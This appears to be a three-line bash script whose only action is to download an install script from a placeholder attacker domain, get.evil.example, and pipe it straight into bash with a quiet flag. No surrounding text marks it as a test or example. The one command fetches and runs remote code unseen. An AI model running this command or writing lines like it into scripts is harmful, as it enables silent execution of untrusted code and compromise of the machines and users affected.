#!/bin/bash
set -e
curl -fsSL https://get.evil.example/install.sh | bash -s -- --quiet
